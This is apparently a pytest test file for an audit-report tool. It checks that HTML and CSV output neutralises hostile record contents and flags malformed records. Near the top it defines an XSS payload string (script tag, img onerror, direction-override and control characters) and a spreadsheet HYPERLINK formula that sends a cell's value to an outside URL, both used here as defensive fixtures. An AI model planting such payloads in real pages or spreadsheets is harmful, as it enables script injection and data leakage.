"""Records by somebody who wants to run something in the reader's browser or spreadsheet, or to spoil the figures."""

from __future__ import annotations

import csv
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from postern.audit.asides import Asides
from postern.audit.records import Record, RecordType
from postern_cli.report.csv_rows import CsvFile, guarded
from postern_cli.stop import Exit
from tests.support.report_log import Work, principal, scope_member, told_log
from tests.support.report_pack import Made, make, pulled

SCRIPT = (
    "</title></svg></style><script>alert(1)</script><img src=x onerror=alert(1)>\"'` {{7*7}} \u202egnp.exe\x00\x1b[2J"
)
FORMULA = '=HYPERLINK("http://x/?"&A1,"a")'
HUGE = "A" * 5000


def _hostile(text: str) -> Work:
    work = Work().to("2026-03-03T10:00:00Z")
    scope = scope_member()
    scope[0] |= {"table": text}
    scope[1]["columns"][1] |= {"class": text, "mask": None}
    task = {"id": text[:200], "purpose": text, "ticket": text, "expires_at_s": 1_795_345_200}
    work.grant(
        "t", scope=scope, task=task, database=text, principal={**principal(text[:500]), "issuer_url": text}, needed=1
    )
    work.approve(text[:200], text[:500], code=text)
    masks = [{"column": text, "mask": mask, "count": 1} for mask in (text, f"detected:{text}", "unmasked")]
    work.statement(text[:200], text, (text,), who=text[:500], writes=True, outcome={"masked": masks, "error": text})
    work.refuse(text[:200], text, text, who=text[:500])
    work.refuse_task(text[:500], text, text)
    work.revoke(text, text[:500], text)
    work.statement(text[:200], text, outcome={}, who=text[:500])
    work.event("deploy", {"deploy": {"before": None, "after": {"version": text, "policy": text}, "deployment": text}})
    work.event("erasure", {"task": {"id": text}, "erasure": {"by": text, "reason": text, "keys": [], "count": 1}})
    work.event("key", {"vkeys": [{"vkey": text, "from": "-", "until": None}]})
    return work


@pytest.fixture(scope="module", params=[SCRIPT, FORMULA, HUGE], ids=["script", "formula", "huge"])
def pack(request, tmp_path_factory: pytest.TempPathFactory) -> tuple[Made, str]:
    folder = tmp_path_factory.mktemp("hostile")
    return make(pulled(_hostile(request.param), folder / "copy"), folder / "pack"), request.param


def test_the_page_has_no_element_that_a_record_brought(pack):
    made, _ = pack
    plain = _Tags.of((Path(__file__).parents[2] / "data/report/told.html").read_text("utf-8"))
    seen = _Tags.of(made.page)

    assert made.code == Exit.DONE
    assert seen.tags <= plain.tags
    assert seen.attributes <= plain.attributes


def test_the_page_shows_no_control_and_no_mark_of_direction(pack):
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]", pack[0].page)


def test_the_page_stays_short(pack):
    made, text = pack
    assert len(made.page) < 250_000
    assert HUGE not in made.page
    assert text != SCRIPT or "&lt;script&gt;" in made.page


def test_no_cell_of_a_population_is_a_formula_and_each_row_is_a_line(pack):
    for file in sorted((pack[0].out).glob("*/*.csv")):
        with file.open(encoding="utf-8", newline="") as opened:
            rows = list(csv.reader(opened, strict=True))
        assert len(file.read_bytes().splitlines()) == len(rows), file.name
        assert {len(row) for row in rows} == {len(rows[0])}
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell.lstrip()[:1] in {*"=+-@", "＝", "＋", "－", "＠"} - {""}], file.name


CELLS = {
    "plain": ("select 1", "select 1"),
    "nothing": (None, ""),
    "number": (-5, "'-5"),
    "equals": ("=1+1", "'=1+1"),
    "plus": ("+1", "'+1"),
    "minus": ("-1", "'-1"),
    "at": ("@SUM(A1)", "'@SUM(A1)"),
    "after a blank": (" =1", "' =1"),
    "after a tab": ("\t=1", "\\t=1"),
    "after a carriage return": ("\r=1", "\\r=1"),
    "after a byte order mark": ("\ufeff=1", "\\ufeff=1"),
    "after an ideographic space": ("\u3000=1", "\\u3000=1"),
    "full width": ("＝1", "'＝1"),
    "an apostrophe": ("'=1", "''=1"),
    "in the middle": ("a=1", "a=1"),
    "line feed": ("a\nb", "a\\nb"),
}


@pytest.mark.parametrize(("cell", "expected"), CELLS.values(), ids=CELLS)
def test_a_cell_computes_nothing(cell, expected):
    assert guarded(cell) == expected


def test_a_file_is_what_rfc_4180_says(tmp_path):
    with CsvFile(tmp_path / "a.csv", ("one", "two")) as file:
        file.add(('say "hi"', "a,b"))
    assert (tmp_path / "a.csv").read_bytes() == b'one,two\r\n"say ""hi""","a,b"\r\n'


def test_odd_members_are_left_out_of_the_figures_and_told(tmp_path):
    work = told_log()
    work.statement("t1", outcome={"rows": 10**15, "masked": "all of it", "sensitive_values": -4})
    work.grant("t9", scope=[7, {"table": ["x"], "actions": "select", "columns": [None]}], budgets={"statements": True})
    work.event("revocation", {"principal": ["x"], "revocation": "y"})
    work.plant(b'{"no": "record"}')
    pack = make(pulled(work, tmp_path / "copy"), tmp_path / "pack", period=("2026-03-03", "2026-03-10"))

    odd = [row["what"] for row in pack.rows("odd_records")]
    assert pack.code == Exit.DONE
    assert [what.partition(":")[0] for what in odd] == ["members of another form"] * 3 + ["no record"]
    assert odd[0].endswith("masked, rows, sensitive_values")
    assert pack.figure("Rows delivered") == "24"  # the 21, and 3 of the statement after the period
    assert "odd entries" in pack.page


def test_two_grants_that_claim_the_same_task_count_once_and_are_told(tmp_path):
    work = told_log()
    work.to("2026-03-08T10:00:00Z").grant("t1", "thief")
    pack = make(pulled(work, tmp_path / "copy"), tmp_path / "pack", period=("2026-03-03", "2026-03-10"))

    assert [row["what"] for row in pack.rows("odd_records")] == ["a second grant of the same task"]
    assert len(pack.rows("tasks")) == 3
    assert len(pack.rows("scope_use")) == 9
    assert [row["lead_seconds"] for row in pack.rows("approvals")] == ["120", "120", "7200"]
    assert "before the grant" not in pack.page


def test_an_approval_before_its_grant_by_the_clock_is_no_lead_time(tmp_path):
    work = Work().to("2026-03-03T10:00:00Z")
    work.later(30).approve("t1", "erin")
    work.later(30).grant("t1", needed=1)
    pack = make(pulled(work, tmp_path / "copy"), tmp_path / "pack")

    assert pack.rows("approvals")[0]["lead_seconds"] == "'-30"
    assert "before the grant" in pack.page


def test_more_identities_than_fit_become_one_bar_of_others(tmp_path):
    work = Work().to("2026-03-03T10:00:00Z")
    for number in range(40):
        work.statement("t", who=f"agent-{number:02}")
    pack = make(pulled(work, tmp_path / "copy"), tmp_path / "pack")

    (figure,) = re.findall(r'<figure id="by-principal".*?</figure>', pack.page, re.S)
    assert "28 others" in figure
    assert figure.count("<tr>") == 14


def test_a_scope_in_a_blob_is_read_from_it(tmp_path):
    work, asides = Work().to("2026-03-03T10:00:00Z"), Asides()
    wide = [{"table": f"public.t{n:03}", "actions": ["select"], "columns": [], "row_filter": None} for n in range(200)]
    body = {
        "task": {"id": "t"},
        "principal": principal("a"),
        "scope": asides.fit(wide),
        "decision": {"result": "allow"},
    }
    work.write("tasks", lambda id_, at: Record(RecordType.EVENT, "grant", id_, at, body, tuple(asides.blobs)))
    pack = make(pulled(work, tmp_path / "copy"), tmp_path / "pack")

    assert asides.blobs
    assert len(pack.rows("scope_use")) == 200


class _Tags(HTMLParser):
    @classmethod
    def of(cls, page: str) -> _Tags:
        seen = cls()
        seen.feed(page)
        return seen

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes.update(f"{tag} {name}" for name, _ in attrs)
